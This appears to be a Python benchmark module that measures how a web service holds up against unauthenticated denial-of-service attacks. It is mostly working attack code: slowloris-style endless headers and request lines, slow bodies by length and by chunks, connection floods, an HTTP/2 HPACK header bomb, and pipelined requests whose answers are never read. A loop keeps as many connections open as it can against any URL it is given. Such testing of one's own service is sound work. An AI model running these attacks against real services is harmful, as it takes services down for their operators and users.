"""What a stranger can do to a service without a credential, each in a process of its own.

    python -m benchmarks.attackers NAME URL CONNECTIONS SECONDS

Holds as many connections as it can: what is refused or closed is opened again. Prints how many are open at the end.
"""

import errno
import resource
import select
import socket
import struct
import sys
import time
from typing import Final
from urllib.parse import urlsplit

import msgspec

_GET: Final = b"GET /schema HTTP/1.1\r\nHost: x\r\n"
_POST: Final = b"POST /api/v1/usage/summary HTTP/1.1\r\nHost: x\r\n"
_OPENED_AT_ONCE: Final = 100  # of one round, so that a round stays short
_ROUND_SECONDS: Final = 0.1
_UNDER_WAY: Final = {errno.EINPROGRESS, errno.EAGAIN, errno.EALREADY, errno.ENOTCONN}


class Attack(msgspec.Struct, frozen=True):
    """What each connection sends; none reads anything.

    Attributes:
        first: sent as soon as the connection is open.
        more: sent again and again.
        seconds: between two pieces of `more`.
        connections: at most so many; the effect comes from elsewhere.
    """

    first: bytes = b""
    more: bytes = b""
    seconds: float = 1
    connections: int = 100_000


def _text(value: bytes) -> bytes:
    return _number(len(value), 7, 0) + value


def _number(value: int, bits: int, head: int) -> bytes:
    """Return a number as HPACK writes it."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([head | value])
    found, value = [head | most], value - most
    while value >= 1 << 7:
        found.append(value % 128 | 128)
        value //= 128
    return bytes([*found, value])


def _frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


def _http2_bomb() -> bytes:
    """Return requests of HTTP/2 whose headers name one long header 4,000 times, in a byte each."""
    start = b"\x82\x86\x04" + _text(b"/schema") + b"\x01" + _text(b"x")
    first = start + b"\x40" + _text(b"x-bomb") + _text(b"a" * 3900) + b"\xbe" * 4000
    later = start + b"\xbe" * 4000
    frames = [_frame(1, 5, 1 + 2 * number, later if number else first) for number in range(100)]
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b"") + _frame(4, 1, 0, b"") + b"".join(frames)


ATTACKS: Final = {
    # Nothing at all.
    "silent": Attack(),
    # Headers that never end, as large as they are taken.
    "headers": Attack(_GET + b"X-A: " + b"a" * 64_000, b"a", 2),
    # A first line that never ends.
    "line": Attack(b"GET /" + b"a" * 64_000, b"a", 2),
    # Thousands of small headers.
    "many_headers": Attack(_GET + b"A: b\r\n" * 2_500, b"A: b\r\n", 2),
    # Far more than is taken, as fast as it goes.
    "flood": Attack(_GET + b"X-A: ", b"a" * 65_536, 0, 100),
    # HTTP/2 without TLS: headers that unpack to 16 MB a request.
    "http2": Attack(_http2_bomb(), b"", 1, 100),
    # Bodies that come slowly, with a length and in chunks.
    "bodies": Attack(_POST + b"Content-Length: 1000000000\r\n\r\n", b"a" * 1024),
    "chunks": Attack(_POST + b"Transfer-Encoding: chunked\r\n\r\n", b"400\r\n" + b"a" * 1024 + b"\r\n"),
    # Requests whose answers are not read: of a page, and of refusals. More at once would be a flood of good requests.
    "pages_unread": Attack((_GET + b"\r\n") * 40, _GET + b"\r\n", 2, 500),
    "refusals_unread": Attack((_POST + b"\r\n") * 400, _POST + b"\r\n", 2, 50),
}


class Connection:
    """One connection of an attack.

    Raises:
        OSError: it cannot be opened.
    """

    def __init__(self, attack: Attack, address: tuple[str, int]) -> None:
        self._attack = attack
        self.socket = socket.socket()
        self.socket.setblocking(False)
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.socket.connect_ex(address)
        self._pending = attack.first
        self._next = time.monotonic() + attack.seconds

    def go_on(self) -> None:
        """Send what can be sent.

        Raises:
            OSError: the other side closed it.
        """
        now = time.monotonic()
        if not self._pending and now >= self._next:
            self._pending, self._next = self._attack.more, now + self._attack.seconds
        if not self._pending:
            return
        try:
            self._pending = self._pending[self.socket.send(self._pending) :]
        except OSError as error:
            if error.errno not in _UNDER_WAY:
                raise


def run(attack: Attack, address: tuple[str, int], connections: int, seconds: float) -> int:
    """Attack for some seconds; return how many connections are open at the end."""
    wanted, end = min(connections, attack.connections), time.monotonic() + seconds
    held: dict[int, Connection] = {}
    poll = select.poll()
    while time.monotonic() < end:
        started = time.monotonic()
        for _ in range(min(_OPENED_AT_ONCE, wanted - len(held))):
            try:
                connection = Connection(attack, address)
            except OSError:
                break
            held[connection.socket.fileno()] = connection
            poll.register(connection.socket, select.POLLRDHUP)
        closed = {number for number, _ in poll.poll(0)}
        for number, connection in held.items():
            try:
                connection.go_on()
            except OSError:
                closed.add(number)
        for number in closed:
            poll.unregister(number)
            held.pop(number).socket.close()
        time.sleep(max(0, _ROUND_SECONDS - (time.monotonic() - started)))
    return len(held)


def main() -> None:
    """Run the attack that the command line names."""
    name, url, connections, seconds = sys.argv[1:]
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    parts = urlsplit(url)
    print(run(ATTACKS[name], (parts.hostname or "", parts.port or 80), int(connections), float(seconds)))  # noqa: T201


if __name__ == "__main__":
    main()
